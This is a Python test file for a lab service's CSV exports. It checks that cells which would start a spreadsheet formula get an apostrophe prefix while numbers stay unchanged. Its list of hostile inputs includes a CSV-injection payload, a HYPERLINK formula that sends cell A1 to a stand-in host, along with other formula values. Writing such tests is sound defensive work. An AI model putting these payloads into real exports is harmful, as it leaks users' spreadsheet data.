"""Every CSV the lab serves reaches a spreadsheet as data: a cell that would start a formula
(= + - @, tab, CR: OWASP's "CSV injection") gets a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from apiutil import FAST, serve, wait_final

from lab.service.export import cell, csv_text, neutral

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
           "  =1+1"]


def test_formula_cells_are_neutralised_and_numbers_are_not() -> None:
    for text in HOSTILE:
        assert neutral(text) == "'" + text
        assert cell(text) == "'" + text
    for text in ("Ana", "qemu-img", "a=b", "x-1", "", "'=already quoted"):
        assert neutral(text) == text
    assert cell(-5) == "-5" and cell(-0.25) == "-0.25" and cell(None) == "" and cell(True) == "true"
    rows = list(csv.reader(io.StringIO(csv_text([["name", "n"], ["=1+1", -3]]))))
    assert rows == [["name", "n"], ["'=1+1", "-3"]]


@pytest.fixture
def api(tmp_path) -> Iterator:
    yield from serve(tmp_path)


def test_results_and_guesses_csv_carry_hostile_names_as_text(api) -> None:
    name = "=HYPERLINK(\"x\")"
    r = api.post("/api/v1/runs", json={"client": "qemu-img", "server": FAST, "label": "@label", "student": name})
    assert r.status_code == 202, r.text
    wait_final(api, r.json()["id"])
    rows = list(csv.DictReader(io.StringIO(api.get("/api/v1/results.csv").text)))
    mine = [row for row in rows if row["id"] == r.json()["id"]]
    assert mine and mine[0]["label"] == "'@label" and mine[0]["student"] == "'" + name
    assert float(mine[0]["duration_s"]) > 0  # numbers untouched
    g = api.post("/api/v1/guesses", json={"student": "+Bob", "target": "act1-baseline",
                                          "prediction": {"duration_s": 8}})
    assert g.status_code == 201, g.text
    guesses = list(csv.DictReader(io.StringIO(api.get("/api/v1/guesses.csv").text)))
    assert [row["student"] for row in guesses] == ["'+Bob"]
    trace = api.get(f"/api/v1/runs/{r.json()['id']}/trace?format=csv")
    assert trace.status_code == 200 and trace.text.splitlines()[0].startswith("seq,t0,t1,op")
